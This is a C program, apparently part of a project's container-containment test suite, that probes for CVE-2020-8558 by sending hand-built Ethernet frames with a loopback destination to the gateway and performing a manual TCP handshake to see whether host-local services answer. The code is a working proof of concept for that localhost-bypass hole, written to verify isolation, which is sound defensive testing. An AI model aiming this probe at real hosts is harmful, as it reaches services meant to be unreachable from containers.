/*
 * raw-frame: the CVE-2020-8558 probe, run inside a container by src/network/containment.test.ts.
 * Compiled at test time with `gcc -static` (glibc's libc.a comes with g++'s dependencies).
 *
 * It writes whole Ethernet frames on an AF_PACKET socket (what CAP_NET_RAW, in Docker's default
 * set, allows): addressed to the gateway's MAC, with an IPv4 destination the container's own
 * kernel would never send out, e.g. 127.0.0.1. The kernel's routing in the container is
 * bypassed; whether the packet gets anywhere is the host's decision.
 *
 *   raw-frame IFACE GW_MAC DST_IP udp DPORT PAYLOAD
 *       sends one datagram; prints "sent"
 *   raw-frame IFACE GW_MAC DST_IP tcp DPORT PAYLOAD
 *       a TCP handshake by hand: SYN (resent every 300 ms), then on SYN-ACK an ACK carrying
 *       PAYLOAD, then it ACKs what comes back for up to 2 s. Prints "syn-ack" and then
 *       "data <n>" with the bytes received, "reset" on a RST, or "timeout" when nothing
 *       answered within 3 s (exit status 2).
 *
 * Replies from 127.0.0.1 are martians to the container's kernel: it drops them without a RST,
 * so only this program sees them and the host's connection survives.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <linux/if_packet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int sock, ifindex;
static uint8_t my_mac[6], gw_mac[6];
static uint32_t my_ip, dst_ip; /* network order */

static void die(const char *what) {
  perror(what);
  exit(1);
}

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
  const uint8_t *p = data;
  for (; len > 1; len -= 2, p += 2) sum += (uint32_t)p[0] << 8 | p[1];
  if (len) sum += (uint32_t)p[0] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

/* the TCP/UDP checksum: pseudo header, then the segment (its checksum field zero) */
static uint16_t l4sum(uint8_t proto, const void *seg, size_t len) {
  uint8_t ph[12];
  memcpy(ph, &my_ip, 4);
  memcpy(ph + 4, &dst_ip, 4);
  ph[8] = 0;
  ph[9] = proto;
  ph[10] = (uint8_t)(len >> 8);
  ph[11] = (uint8_t)len;
  uint32_t sum = 0;
  for (int i = 0; i < 12; i += 2) sum += (uint32_t)ph[i] << 8 | ph[i + 1];
  const uint8_t *p = seg;
  size_t n = len;
  for (; n > 1; n -= 2, p += 2) sum += (uint32_t)p[0] << 8 | p[1];
  if (n) sum += (uint32_t)p[0] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  uint16_t r = htons((uint16_t)~sum);
  return r ? r : 0xffff;
}

/* Ethernet + IPv4 header around an L4 segment, sent on the interface */
static void send_ip(uint8_t proto, const void *seg, size_t len) {
  uint8_t frame[1514];
  if (len > sizeof frame - 14 - 20) {
    fprintf(stderr, "payload too long\n");
    exit(1);
  }
  struct ether_header *eh = (struct ether_header *)frame;
  memcpy(eh->ether_dhost, gw_mac, 6);
  memcpy(eh->ether_shost, my_mac, 6);
  eh->ether_type = htons(ETHERTYPE_IP);
  struct iphdr *ip = (struct iphdr *)(frame + 14);
  memset(ip, 0, sizeof *ip);
  ip->version = 4;
  ip->ihl = 5;
  ip->tot_len = htons((uint16_t)(20 + len));
  ip->id = htons((uint16_t)rand());
  ip->frag_off = htons(IP_DF);
  ip->ttl = 64;
  ip->protocol = proto;
  ip->saddr = my_ip;
  ip->daddr = dst_ip;
  ip->check = csum(ip, 20, 0);
  memcpy(frame + 34, seg, len);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
  memcpy(to.sll_addr, gw_mac, 6);
  if (sendto(sock, frame, 34 + len, 0, (struct sockaddr *)&to, sizeof to) < 0) die("sendto");
}

static uint16_t sport, dport;
static uint32_t snd_nxt, rcv_nxt;

static void send_tcp(uint8_t flags, uint32_t seq, uint32_t ack, const char *data, size_t dlen) {
  uint8_t seg[1400];
  struct tcphdr *t = (struct tcphdr *)seg;
  memset(t, 0, sizeof *t);
  t->source = htons(sport);
  t->dest = htons(dport);
  t->seq = htonl(seq);
  t->ack_seq = htonl(ack);
  t->doff = 5;
  t->th_flags = flags;
  t->window = htons(65000);
  memcpy(seg + 20, data, dlen);
  t->check = l4sum(IPPROTO_TCP, seg, 20 + dlen);
  send_ip(IPPROTO_TCP, seg, 20 + dlen);
}

static long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000L + ts.tv_nsec / 1000000;
}

/* The next TCP segment from DST_IP:DPORT to our port, or NULL after `ms`. */
static struct tcphdr *recv_tcp(long ms, uint8_t *buf, size_t *dlen) {
  long end = now_ms() + ms;
  for (;;) {
    long left = end - now_ms();
    if (left <= 0) return NULL;
    struct pollfd pfd = {.fd = sock, .events = POLLIN};
    if (poll(&pfd, 1, (int)left) <= 0) return NULL;
    ssize_t n = recv(sock, buf, 65536, 0);
    if (n < 14 + 20 + 20) continue;
    struct iphdr *ip = (struct iphdr *)(buf + 14);
    if (((struct ether_header *)buf)->ether_type != htons(ETHERTYPE_IP) || ip->protocol != IPPROTO_TCP) continue;
    if (ip->saddr != dst_ip || ip->daddr != my_ip) continue;
    struct tcphdr *t = (struct tcphdr *)(buf + 14 + ip->ihl * 4);
    if (ntohs(t->source) != dport || ntohs(t->dest) != sport) continue;
    size_t total = ntohs(ip->tot_len);
    size_t hdrs = ip->ihl * 4 + t->doff * 4;
    *dlen = total > hdrs ? total - hdrs : 0;
    return t;
  }
}

static int do_tcp(const char *payload) {
  static uint8_t buf[65536];
  uint32_t isn = (uint32_t)rand();
  size_t dlen;
  struct tcphdr *t = NULL;
  long end = now_ms() + 3000;
  while (!t && now_ms() < end) {
    send_tcp(TH_SYN, isn, 0, "", 0);
    t = recv_tcp(300, buf, &dlen);
    if (t && (t->th_flags & TH_RST)) {
      puts("reset");
      return 3;
    }
    if (t && (t->th_flags & (TH_SYN | TH_ACK)) != (TH_SYN | TH_ACK)) t = NULL;
  }
  if (!t) {
    puts("timeout");
    return 2;
  }
  puts("syn-ack");
  fflush(stdout);
  rcv_nxt = ntohl(t->seq) + 1;
  snd_nxt = isn + 1;
  size_t plen = strlen(payload);
  send_tcp(TH_ACK | TH_PUSH, snd_nxt, rcv_nxt, payload, plen);
  snd_nxt += (uint32_t)plen;
  static char got[65536];
  size_t have = 0;
  int fin = 0;
  long stop = now_ms() + 2000;
  while (!fin && now_ms() < stop) {
    t = recv_tcp(stop - now_ms(), buf, &dlen);
    if (!t) break;
    if (t->th_flags & TH_RST) break;
    if (ntohl(t->seq) != rcv_nxt) continue; /* out of order or a retransmission: ask again */
    const uint8_t *data = (const uint8_t *)t + t->doff * 4;
    if (dlen && have + dlen < sizeof got) {
      memcpy(got + have, data, dlen);
      have += dlen;
    }
    rcv_nxt += (uint32_t)dlen;
    if (t->th_flags & TH_FIN) {
      rcv_nxt++;
      fin = 1;
    }
    if (dlen || fin) send_tcp(TH_ACK | (fin ? TH_FIN : 0), snd_nxt, rcv_nxt, "", 0);
  }
  printf("data %zu\n", have);
  fwrite(got, 1, have, stdout);
  return 0;
}

static int do_udp(const char *payload) {
  uint8_t seg[1400];
  size_t plen = strlen(payload);
  struct udphdr *u = (struct udphdr *)seg;
  u->source = htons(sport);
  u->dest = htons(dport);
  u->len = htons((uint16_t)(8 + plen));
  u->check = 0;
  memcpy(seg + 8, payload, plen);
  u->check = l4sum(IPPROTO_UDP, seg, 8 + plen);
  send_ip(IPPROTO_UDP, seg, 8 + plen);
  puts("sent");
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 7) {
    fprintf(stderr, "usage: %s IFACE GW_MAC DST_IP tcp|udp DPORT PAYLOAD\n", argv[0]);
    return 1;
  }
  srand((unsigned)(time(NULL) ^ getpid()));
  unsigned m[6];
  if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
    fprintf(stderr, "bad MAC %s\n", argv[2]);
    return 1;
  }
  for (int i = 0; i < 6; i++) gw_mac[i] = (uint8_t)m[i];
  if (inet_pton(AF_INET, argv[3], &dst_ip) != 1) {
    fprintf(stderr, "bad IPv4 address %s\n", argv[3]);
    return 1;
  }
  dport = (uint16_t)atoi(argv[5]);
  sport = (uint16_t)(40000 + rand() % 20000);

  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0) die("socket");
  if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) die("SIOCGIFINDEX");
  ifindex = ifr.ifr_ifindex;
  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) die("SIOCGIFHWADDR");
  memcpy(my_mac, ifr.ifr_hwaddr.sa_data, 6);
  if (ioctl(s, SIOCGIFADDR, &ifr) < 0) die("SIOCGIFADDR");
  my_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
  close(s);

  sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (sock < 0) die("socket(AF_PACKET)");
  struct sockaddr_ll me = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifindex};
  if (bind(sock, (struct sockaddr *)&me, sizeof me) < 0) die("bind");

  if (!strcmp(argv[4], "udp")) return do_udp(argv[6]);
  if (!strcmp(argv[4], "tcp")) return do_tcp(argv[6]);
  fprintf(stderr, "protocol must be tcp or udp\n");
  return 1;
}
